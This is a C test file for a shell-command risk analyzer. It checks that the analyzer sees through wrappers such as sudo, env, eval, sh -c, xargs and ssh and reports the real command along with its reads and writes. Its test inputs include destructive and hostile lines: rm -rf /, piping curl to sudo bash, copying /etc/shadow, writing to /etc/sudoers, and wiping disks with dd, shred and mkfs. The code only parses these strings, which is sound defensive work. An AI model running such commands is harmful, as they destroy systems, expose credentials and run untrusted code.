/* Looking through wrappers, splitting options, and collecting files. */
#include "check.h"
#include "risk/analyze.h"
#include "util/file-head.h"

#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static struct analysis a;

static int read_file(void *ctx, const char *path, struct buf *out, size_t max)
{
	(void)ctx;
	return file_head_read(path, out, max);
}

static const struct risk_input reader = {.read_script = read_file};

static void line(const char *text)
{
	analysis_free(&a);
	CHECK(analyze_line(text, strlen(text), &reader, &a) == 0);
}

static int has(const struct strlist *l, const char *s)
{
	for (size_t i = 0; i < l->n; i++)
		if (strcmp(l->items[i], s) == 0)
			return 1;
	return 0;
}

static const char *name(size_t i)
{
	return i < a.n ? a.cmds[i].name : "(none)";
}

/* The analysis opens no file itself: only the caller's text or reader. */
static void scripts_come_from_the_caller(const char *path)
{
	char *const sh_file[] = {"sh", (char *)path, NULL};
	const struct risk_input given = {.script = "shred -u /etc/passwd\n", .script_len = 21};
	char cmd[128];

	snprintf(cmd, sizeof(cmd), "bash %s", path);
	analysis_free(&a);
	CHECK(analyze_line(cmd, strlen(cmd), NULL, &a) == 0);
	CHECK(a.n == 1);
	CHECK_STR(name(0), "bash");
	analysis_free(&a);
	CHECK(analyze_argv(sh_file, NULL, &a) == 0);
	CHECK(a.n == 1);
	CHECK_STR(name(0), "sh");
	analysis_free(&a);
	CHECK(analyze_argv(sh_file, &given, &a) == 0);
	CHECK(a.n == 1);
	CHECK_STR(name(0), "shred");
	analysis_free(&a);
}

int main(void)
{
	char path[] = "/tmp/escort-test-script-XXXXXX";
	char *const argv[] = {"/usr/bin/sudo", "-u", "postgres", "psql", "-c", "drop", NULL};
	int fd;

	line("sudo -u root rm -rf /var/lib/x");
	CHECK(a.n == 1);
	CHECK_STR(name(0), "rm");
	CHECK(a.cmds[0].as_root && has(&a.cmds[0].opts, "r") && has(&a.cmds[0].opts, "f"));
	CHECK(has(&a.cmds[0].operands, "/var/lib/x"));
	CHECK_STR(a.cmds[0].via, "sudo");

	line("env LD_PRELOAD=/tmp/x.so nohup timeout -s 9 10 nice -n 5 ls");
	CHECK(a.n == 1);
	CHECK_STR(name(0), "ls");
	CHECK(has(&a.cmds[0].env, "LD_PRELOAD=/tmp/x.so"));

	line("find / -name '*.log' -exec rm -f {} \\;");
	CHECK(a.n == 2);
	CHECK_STR(name(1), "rm");

	line("curl -s http://x/a.sh | sudo bash");
	CHECK(a.n == 2);
	CHECK_STR(a.cmds[0].piped_to, "bash");
	CHECK_STR(a.cmds[1].piped_from, "curl");

	line("sh -c 'cat /etc/shadow > /tmp/s'");
	CHECK(a.n == 1);
	CHECK_STR(name(0), "cat");
	CHECK(has(&a.cmds[0].reads, "/etc/shadow") && has(&a.cmds[0].writes, "/tmp/s"));

	line("eval \"r\"\"m -rf /\"");
	CHECK(a.n == 1);
	CHECK_STR(name(0), "rm");

	line("ssh db1 'systemctl stop postgresql'");
	CHECK(a.n == 2);
	CHECK_STR(name(0), "ssh");
	CHECK_STR(name(1), "systemctl");
	CHECK_STR(a.cmds[1].remote_host, "db1");

	line("echo x | tee -a /etc/sudoers; dd if=/dev/zero of=/dev/sda bs=1M; sed -i s/a/b/ "
	     "/etc/ssh/sshd_config");
	CHECK(a.n == 4);
	CHECK(has(&a.cmds[1].writes, "/etc/sudoers"));
	CHECK(has(&a.cmds[2].writes, "/dev/sda"));
	CHECK(has(&a.cmds[3].writes, "/etc/ssh/sshd_config"));

	line("xargs -0 -n 1 shred -u < list");
	CHECK(a.n == 1);
	CHECK_STR(name(0), "shred");

	line("$cmd -rf /");
	CHECK(a.n == 1 && a.cmds[0].name_dynamic);

	fd = mkstemp(path);
	CHECK(fd >= 0);
	CHECK(write(fd, "#!/bin/sh\nmkfs.ext4 /dev/sdb\n", 29) == 29);
	close(fd);
	{
		char cmd[128];
		snprintf(cmd, sizeof(cmd), "bash %s", path);
		line(cmd);
		CHECK(a.n == 1);
		CHECK_STR(name(0), "mkfs.ext4");
	}
	scripts_come_from_the_caller(path);
	unlink(path);

	analysis_free(&a);
	CHECK(analyze_argv(argv, NULL, &a) == 0);
	CHECK(a.n == 1);
	CHECK_STR(name(0), "psql");
	CHECK(!a.cmds[0].as_root);
	analysis_free(&a);
	CHECK_DONE();
}
